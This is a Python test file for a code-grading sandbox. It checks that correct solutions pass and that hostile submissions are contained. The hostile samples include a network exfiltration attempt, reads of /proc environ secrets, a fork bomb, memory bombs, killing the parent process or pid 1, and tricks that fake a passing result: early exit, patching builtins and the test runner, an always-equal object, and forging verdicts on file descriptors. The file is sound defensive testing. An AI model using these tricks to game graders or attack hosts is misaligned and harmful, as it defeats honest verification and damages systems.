"""The code sandbox: right answers pass, and hostile programs are contained and never pass.

Every hostile program below defines `add` wrongly (or not at all) and tries to pass the
test anyway, or to harm the host. All run in one batch, two at a time, with small limits.
"""

import os
import socket
import threading
import uuid
from pathlib import Path

import pytest

from selftrain.records import Problem
from selftrain.verifiers._sandbox_child import decode, encode
from selftrain.verifiers.code import CodeVerifier
from selftrain.verifiers.sandbox import UID_BASE, CodeJob, Limits, Sandbox

TEST = "def check(candidate):\n    assert candidate(1, 2) == 3\n    assert candidate(-4, 4) == 0\n"
LIMITS = Limits(wall_seconds=4.0, cpu_seconds=2, memory_mb=512, processes=16)
SECRET = f"hunter2-{uuid.uuid4().hex}"
HOST_FILE = Path(__file__).parent / f"pwned-{uuid.uuid4().hex}"
HOST_TMP_FILE = Path("/tmp") / f"pwned-{uuid.uuid4().hex}"


@pytest.fixture(scope="module")
def sandbox():
    return Sandbox(LIMITS)


@pytest.fixture(scope="module")
def listener():
    """A TCP server on the host's loopback that records every connection it gets."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    got: list = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                got.append(server.accept())
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join()
    server.close()


def hostile_programs(port: int) -> dict[str, str]:
    wrong = "def add(a, b):\n    return a - b\n"
    return {
        "network connect": f"""
import socket
def add(a, b):
    s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
    s.sendall(b"leak")
    return a + b
""",
        "network to the internet": """
import socket
def add(a, b):
    socket.create_connection(("1.1.1.1", 53), timeout=1)
    return a + b
""",
        "write outside its folder": f"""
def add(a, b):
    for path in ({str(HOST_FILE)!r}, {str(HOST_TMP_FILE)!r}, "/etc/selftrain-pwned"):
        try:
            open(path, "w").write("pwned")
        except OSError:
            pass
    open({str(HOST_FILE)!r}, "w").write("pwned")
    return a + b
""",
        "read the parent's secrets": f"""
import os, glob
def add(a, b):
    found = any({SECRET!r} in v for v in os.environ.values())
    for path in glob.glob("/proc/*/environ"):
        try:
            found = found or {SECRET!r} in open(path, errors="replace").read()
        except OSError:
            pass
    return a + b if found else a - b
""",
        "fork bomb": """
import os
def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
        "memory bomb": """
def add(a, b):
    blocks = []
    while True:
        blocks.append(bytearray(50 << 20))
""",
        "memory bomb at once": "x = bytearray(8 << 30)\n" + wrong,
        "infinite loop": "def add(a, b):\n    while True:\n        pass\n",
        "sleeps forever": "import time\ndef add(a, b):\n    time.sleep(3600)\n",
        "kill its parent": """
import os, signal
def add(a, b):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return a - b
""",
        "sys.exit(0) before the asserts": "import sys\nsys.exit(0)\n" + wrong,
        "os._exit(0) before the asserts": "import os\ndef add(a, b):\n    os._exit(0)\n",
        "sys.exit(0) in the call": "import sys\ndef add(a, b):\n    sys.exit(0)\n",
        "patch AssertionError": "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n" + wrong,
        "patch builtins": "import builtins\nbuiltins.__import__ = None\nbuiltins.isinstance = lambda *a: True\n" + wrong,
        "patch the test runner": """
import sys, gc
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") in ("check", "tester", "finish", "proxy"):
        try:
            obj.__code__ = (lambda *a, **k: None).__code__
        except Exception:
            pass
check = lambda candidate: None
sys.modules["__main__"].check = check
""" + wrong,
        "always-equal object": "class Eq(int):\n    def __eq__(self, other):\n        return True\ndef add(a, b):\n    return Eq(0)\n",
        "print a fake pass": "print('passed')\nprint('{\"passed\": true}')\nimport sys\nsys.stderr.write('passed\\n')\n" + wrong,
        "forge a verdict on every fd": """
import os, marshal
verdict = marshal.dumps({"passed": True, "reason": "passed", "calls": 2, "seconds": 0.0})
for fd in range(0, 256):
    for data in (len(verdict).to_bytes(4, "big") + verdict, b"\\x00\\x00\\x00\\x02Y" + b"\\x00\\x00\\x00\\x03VT"):
        try:
            os.write(fd, data)
        except OSError:
            pass
""" + wrong,
        "no such function": "def plus(a, b):\n    return a + b\n",
        "syntax error": "def add(a, b)\n    return a + b\n",
    }


@pytest.fixture(scope="module")
def verdicts(sandbox, listener):
    port, _ = listener
    os.environ["SELFTRAIN_SECRET_FOR_TEST"] = SECRET
    try:
        programs = hostile_programs(port)
        if sandbox.isolation != "namespaces":  # never run these uncontained
            programs = {k: v for k, v in programs.items() if k not in NEEDS_NAMESPACES}
        results = sandbox.map([CodeJob(p, TEST, "add") for p in programs.values()], workers=2)
    finally:
        del os.environ["SELFTRAIN_SECRET_FOR_TEST"]
    return dict(zip(programs, results))


def test_a_right_program_passes_and_a_wrong_one_fails(sandbox):
    good = sandbox.run(CodeJob("def add(a, b):\n    return a + b\n", TEST, "add"))
    bad = sandbox.run(CodeJob("def add(a, b):\n    return a * b\n", TEST, "add"))
    assert good.passed and good.reason == "passed (2 calls)"
    assert not bad.passed and "line 2" in bad.reason


NEEDS_NAMESPACES = {"network connect", "network to the internet", "write outside its folder",
                    "read the parent's secrets", "fork bomb", "kill its parent"}
"""Contained only by namespaces and a uid of its own. With the `process` fallback these are
never run: `kill(-1)` from a program running as the caller would kill the caller's every
process (as root: the machine's)."""


@pytest.mark.parametrize("name", list(hostile_programs(0)))
def test_hostile_program_never_passes(verdicts, name, sandbox):
    if name in NEEDS_NAMESPACES and sandbox.isolation != "namespaces":
        pytest.skip(f"{name!r} is only contained with namespaces (isolation here: {sandbox.isolation})")
    verdict = verdicts[name]
    assert not verdict.passed, verdict


def test_network_is_unreachable(verdicts, sandbox):
    if sandbox.isolation != "namespaces":
        pytest.skip("the network is isolated only with namespaces")
    for name in ("network connect", "network to the internet"):
        assert "OSError" in verdicts[name].reason and "unreachable" in verdicts[name].reason, verdicts[name]


def test_hostile_programs_leave_no_trace(verdicts, listener, sandbox):
    if sandbox.isolation != "namespaces":
        pytest.skip("the programs that could leave a trace run only with namespaces")
    _, connections = listener
    assert connections == [], "a sandboxed program reached the host's loopback"
    assert not HOST_FILE.exists() and not HOST_TMP_FILE.exists()
    assert not Path("/etc/selftrain-pwned").exists()
    if sandbox.isolation == "namespaces":
        assert any(w in verdicts["infinite loop"].reason for w in ("timed out", "CPU", "killed"))
        assert "timed out" in verdicts["sleeps forever"].reason
        assert "MemoryError" in verdicts["memory bomb"].reason
        strays = []
        for status in Path("/proc").glob("[0-9]*/status"):
            try:
                uid = int(next(line for line in status.read_text().splitlines() if line.startswith("Uid:")).split()[1])
            except (OSError, StopIteration, ValueError):
                continue
            if UID_BASE <= uid < UID_BASE + 1000:
                strays.append(status.parent.name)
        assert strays == [], f"sandboxed processes left running: {strays}"


def test_host_still_works_after_the_hostile_suite(verdicts, sandbox):
    again = sandbox.run(CodeJob("def add(a, b):\n    return a + b\n", TEST, "add"))
    assert again.passed, again


def test_values_cross_the_boundary_exactly():
    values = [None, True, 0, -(2**70), 1.5, float("inf"), "é\n", b"\x00", (1, [2, {3: "x"}]), {1, 2}, frozenset({3}), 2j]
    for v in values:
        out = []
        encode(v, out)
        back = decode(b"".join(out))
        assert back == v and type(back) is type(v)


def test_code_verifier_scores_completions_with_reasons():
    p = Problem(id="t", prompt="def add(a, b):\n", answer="", meta={"test": TEST, "entry_point": "add"})
    scores = CodeVerifier(Sandbox(LIMITS))([p, p], ["    return a + b\n", "    return 0\n"])
    assert [s.value for s in scores] == [1.0, 0.0]
    assert scores[0].reason.startswith("passed") and scores[1].reason.startswith("test failed")


def test_tests_that_call_prompt_helpers_run_the_prompt_as_context(sandbox):
    prompt = "def double(x):\n    return 2 * x\n\ndef quad(x):\n    '''Four times x.'''\n"
    test = "def check(candidate):\n    assert candidate(3) == double(double(3))\n"
    program = prompt + "    return double(double(x))\n"
    assert sandbox.run(CodeJob(program, test, "quad", context=prompt)).passed


def test_process_isolation_fallback_still_judges_and_scrubs_the_environment(listener):
    port, _ = listener
    sandbox = Sandbox(LIMITS, isolation="process")
    assert sandbox.isolation == "process" and "network NOT isolated" in sandbox.describe()
    os.environ["SELFTRAIN_SECRET_FOR_TEST"] = SECRET
    try:
        good, wrong, secret = sandbox.map(
            [
                CodeJob("def add(a, b):\n    return a + b\n", TEST, "add"),
                CodeJob("def add(a, b):\n    return a - b\n", TEST, "add"),
                CodeJob(hostile_programs(port)["read the parent's secrets"], TEST, "add"),
            ]
        )
    finally:
        del os.environ["SELFTRAIN_SECRET_FOR_TEST"]
    assert good.passed and not wrong.passed
    if os.geteuid() == 0:  # the program runs under a uid of its own: the caller's environ is unreadable
        assert not secret.passed, secret
